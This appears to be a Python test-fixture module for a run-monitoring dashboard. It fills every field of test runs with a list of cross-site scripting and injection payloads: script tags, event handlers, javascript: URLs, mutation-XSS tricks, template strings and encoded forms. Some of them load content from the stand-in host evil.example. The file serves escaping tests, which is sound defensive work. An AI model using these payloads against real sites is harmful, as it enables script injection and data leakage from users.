"""Words of somebody who means harm, and runs whose every name is one of them."""

from collections.abc import Sequence

import msgspec

from grokwatch.monitor.records import Evidence, SignalInfo, SkippedSignal
from tests.page_alerts import alert, delivery
from tests.page_stories import KEYS, Story, story

PAYLOADS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>alert`1`</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.png'>",
    "<img/src=x/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x>",
    "</path></svg><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) x='",
    '" onmouseover="alert(1)',
    "` onmouseover=alert(1)",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<b>bold</b><a href='https://evil.example'>chart label</a>",
    "{{ 7*7 }}{% for x in range(9) %}x{% endfor %}",
    "${alert(1)}",
    "%{y}<extra>%{x}</extra>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u202egnp.exe\u202c \u2066right to left\u2069",
    "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd mixed directions",
    "\u2028alert(1)\u2029",
    "javascript:alert(1)",
    "a" * 400,
)


def hostile(payloads: Sequence[str] = PAYLOADS) -> tuple[Story, ...]:
    """Runs whose every word comes from somebody who means harm."""
    stories = []
    for index, text in enumerate(payloads):
        told = story(
            f"{index}-{text}",
            name=text,
            group=text,
            chance=None if index % 2 else 0.6,
            reason=text if index % 2 else None,
            source=f"mlflow:{text}",
            link=text,
            status=text if index % 7 == 3 else "running",
            keys=(text, *KEYS[:2]),
            last=400,
            alerts=(
                alert(
                    f"{index}-{text}",
                    "GRK001",
                    number=index + 1,
                    message=text,
                    name=text,
                    deliveries=(delivery(index, "dead", error=text, hook=text),),
                ),
            ),
        )
        bad = msgspec.structs.replace(
            told.detail,
            hyper_parameters={text: text},
            signals=(SignalInfo(name=text, unit=text, summary=text),),
            skipped=(SkippedSignal(name=text, reason=text, remedy=text),),
            guesses=(text,),
            versions={text: text},
            message=text,
        )
        said = tuple(
            msgspec.structs.replace(
                each, predictor=text, evidence=(Evidence(signal=text, contribution=1.0),)
            )
            for each in told.said
        )
        stories.append(msgspec.structs.replace(told, detail=bad, said=said))
    return tuple(stories)


def renamed(told: Story, run_id: str) -> Story:
    """The same run under another id."""
    row = msgspec.structs.replace(told.row, run_id=run_id)
    return msgspec.structs.replace(told, detail=msgspec.structs.replace(told.detail, run=row))


def harassed() -> Story:
    """One run that has every hostile word in everything of which there are several."""
    told = story("harassed", last=400, keys=PAYLOADS)
    detail = msgspec.structs.replace(
        told.detail,
        hyper_parameters={text: text for text in PAYLOADS},
        signals=tuple(SignalInfo(name=text, unit=text, summary=text) for text in PAYLOADS),
        skipped=tuple(SkippedSignal(name=text, reason=text, remedy=text) for text in PAYLOADS),
        guesses=PAYLOADS,
        versions={text: text for text in PAYLOADS},
    )
    evidence = tuple(Evidence(signal=text, contribution=1.0) for text in PAYLOADS)
    said = tuple(msgspec.structs.replace(each, evidence=evidence) for each in told.said)
    alerts = tuple(
        alert(
            "harassed", text, number=index, message=text, deliveries=(delivery(index, hook=text),)
        )
        for index, text in enumerate(PAYLOADS)
    )
    return msgspec.structs.replace(told, detail=detail, said=said, alerts=alerts)
